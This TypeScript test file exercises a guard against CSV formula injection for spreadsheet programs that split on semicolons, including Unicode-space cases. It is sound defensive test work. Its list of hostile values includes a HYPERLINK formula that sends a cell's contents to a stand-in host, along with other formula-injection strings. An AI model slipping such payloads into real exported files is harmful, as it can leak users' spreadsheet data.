// Issue 50: Excel in Brazil opens a `.csv` split on `;`, so `x;=1+1;` inside one comma-CSV value
// became a `=1+1` cell there. The guard (SPEC §3.5, decided, issue 50) puts a `'` at the start of
// every piece such a reader cuts out of a value; an RFC 4180 comma reader still reads a harmless
// value exactly as written.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { FORMULA_PIECE, FORMULA_START, csvField, csvLine, neutralizeFormulas } from '@censo/shared';
import { parseCsv } from '../helpers/csv.js';

const TRIGGER = /^[=+\-@\t\r]/;
// What a spreadsheet program may evaluate: a formula character, after the tabs and line breaks
// some importers skip. A row's first piece is the comma CSV's first cell, where a leading space
// stays as written (SPEC §3.5: ` =1` is text); a piece a `;` cut out of a value may not start
// with one after spaces or quotes either.
const ROW_FORMULA = /^[\t\r\n]*[=+\-@]/;
// Issue 59: any Unicode space counts (a no-break space before `=` is trimmed as well).
const PIECE_FORMULA = /^[\s"\u200b]*[=+\-@]/;

interface Piece {
  readonly text: string;
  /** The piece starts a line (the comma CSV's first cell), not after a `;` inside a value. */
  readonly lineStart: boolean;
}

/**
 * The pieces of `text` as Excel and LibreOffice read it with `;` as the separator: a quote opens
 * a quoted piece only where a piece starts (a quote elsewhere is a character), and a line break
 * outside such a piece ends the row.
 */
function piecesAsSpreadsheet(text: string): Piece[] {
  const pieces: Piece[] = [];
  let i = 0;
  let lineStart = true;
  while (i < text.length) {
    let piece = '';
    if (text[i] === '"') {
      for (i++; i < text.length; i++) {
        if (text[i] !== '"') piece += text[i];
        else if (text[i + 1] === '"') piece += text[++i];
        else {
          i++;
          break;
        }
      }
    }
    while (i < text.length && text[i] !== ';' && text[i] !== '\n' && !(text[i] === '\r' && text[i + 1] === '\n')) piece += text[i++];
    pieces.push({ text: piece, lineStart });
    if (text[i] === '\r') i++;
    lineStart = text[i] === '\n';
    i++;
  }
  return pieces;
}

/**
 * The pieces of `text` split on `;` and line breaks outside quotes, quotes counted anywhere; a
 * row's first piece without the quote that opens it.
 */
function piecesOutsideQuotes(text: string): Piece[] {
  const pieces: Piece[] = [];
  let piece = '';
  let quoted = false;
  let lineStart = true;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (c === '"') quoted = !quoted;
    if (!quoted && (c === ';' || c === '\n')) {
      pieces.push({ text: (lineStart ? piece.replace(/^"/, '') : piece).replace(/\r$/, ''), lineStart });
      piece = '';
      lineStart = c === '\n';
    } else piece += c;
  }
  pieces.push({ text: lineStart ? piece.replace(/^"/, '') : piece, lineStart });
  return pieces;
}

/** The pieces that a spreadsheet program would evaluate as a formula. */
function formulaPieces(text: string): string[] {
  return [...piecesAsSpreadsheet(text), ...piecesOutsideQuotes(text)]
    .filter((p) => (p.lineStart ? ROW_FORMULA : PIECE_FORMULA).test(p.text))
    .map((p) => p.text);
}

const HOSTILE = [
  'x;=1+1;',
  'EE;  =HYPERLINK("http://x.invalid/?"&A1)',
  'a;+55 11;@SOMA(1;2)',
  'ref;"=2+2"',
  'linha 1\n=3+3',
  'nome;\t=4+4',
];

describe('CSV formula guard for readers that split on ";" (issue 50)', () => {
  it('the example of the issue: x;=1+1; is one cell whose pieces are text', () => {
    const line = csvLine(['ref', 'x;=1+1;', 'fim']);
    expect(piecesAsSpreadsheet(line).map((p) => p.text)).toEqual(['ref,x', "'=1+1", ',fim']);
    expect(formulaPieces(line)).toEqual([]);
    expect(parseCsv(line)).toEqual([['ref', "x;'=1+1;", 'fim']]);
  });

  it.each(HOSTILE)('%j: no piece a ";" reader cuts out starts a formula, in any column', (value) => {
    expect(formulaPieces(csvLine([value, 'b']))).toEqual([]);
    for (const line of [csvLine(['a', value, 'b']), csvLine(['a', value])]) {
      expect(formulaPieces(line), line).toEqual([]);
      // Before issue 50 the same value, guarded at its start only, gave a formula piece: past the
      // first column its quotes open nothing for a `;` reader.
      const startOnly = line.replace(csvField(value), csvField(value).replaceAll(/([;\n])'/g, '$1'));
      expect(formulaPieces(startOnly).length, startOnly).toBeGreaterThan(0);
    }
  });

  it('an RFC 4180 comma reader reads each value with only the guard marks added', () => {
    const rows = parseCsv(HOSTILE.map((value) => csvLine(['a', value])).join(''));
    expect(rows.map((row) => row[1])).toEqual([
      "x;'=1+1;",
      `EE;'  =HYPERLINK("http://x.invalid/?"&A1)`,
      "a;'+55 11;'@SOMA(1;2)",
      `ref;'"=2+2"`,
      "linha 1\n'=3+3",
      "nome;'\t=4+4",
    ]);
  });

  it.each(['ação; ok', 'a;b;c', 'a; 1', 'rua x; nº 2', 'linha 1\nlinha 2', 'x;', ';', ' =1', 'a=1;b'])(
    'a harmless value %j is written as before',
    (value) => {
      expect(neutralizeFormulas(value)).toBe(value);
      expect(parseCsv(csvLine(['a', value, 'b']))).toEqual([['a', value, 'b']]);
    },
  );

  it('any value: no formula piece for a ";" reader, and a comma reader reads it back with only marks added', () => {
    const alphabet = fc.constantFrom(';', '=', '+', '-', '@', '\t', '\r', '\n', '"', ',', ' ', "'", 'x', '1');
    const value = fc.array(alphabet, { maxLength: 12 }).map((chars) => chars.join(''));
    fc.assert(
      fc.property(fc.array(value, { minLength: 1, maxLength: 4 }), (values) => {
        const text = csvLine(values);
        expect(formulaPieces(text)).toEqual([]);
        const [read] = parseCsv(text);
        expect(read).toHaveLength(values.length);
        for (const [i, original] of values.entries()) {
          const harmless = !TRIGGER.test(original) && !/[;\n][ "]*[=+\-@\t\r]/.test(original);
          if (harmless) expect(read![i]).toBe(original);
          else expect(read![i]!.replaceAll("'", '')).toBe(original.replaceAll("'", ''));
        }
      }),
      { numRuns: 2000 },
    );
  });

  // The guard's fast path (issue 47: every field of every CSV passes through it) against the two
  // expressions it stands for, on values of every shape those expressions tell apart.
  it('the fast path answers exactly what the two expressions say', () => {
    const reference = (value: string): string => {
      const pieces = value.replace(FORMULA_PIECE, "$&'");
      return FORMULA_START.test(pieces) ? `'${pieces}` : pieces;
    };
    const alphabet = fc.constantFrom(';', '=', '+', '-', '@', '\t', '\r', '\n', '"', ',', ' ', "'", 'x', 'ç', '1', '\u2028');
    fc.assert(
      fc.property(
        fc.oneof(
          fc.array(alphabet, { maxLength: 16 }).map((chars) => chars.join('')),
          fc.string(),
          fc.string({ unit: 'binary' }),
        ),
        (value) => {
          expect(neutralizeFormulas(value)).toBe(reference(value));
        },
      ),
      { numRuns: 5000 },
    );
  });
});

describe('issue 59: a no-break or other Unicode space before the formula', () => {
  it.each(['\u00a0', '\u2007', '\u202f', '\u3000', '\ufeff', '\u200b', '\u00a0\u00a0"'])('x;%s=1+1 gets its quote after the ;', (space) => {
    expect(neutralizeFormulas(`x;${space}=1+1`)).toBe(`x;'${space}=1+1`);
    expect(neutralizeFormulas(`x\n${space}@SUM(1)`)).toBe(`x\n'${space}@SUM(1)`);
    // Nothing changes where no trigger follows.
    expect(neutralizeFormulas(`x;${space}1+1`)).toBe(`x;${space}1+1`);
  });
});
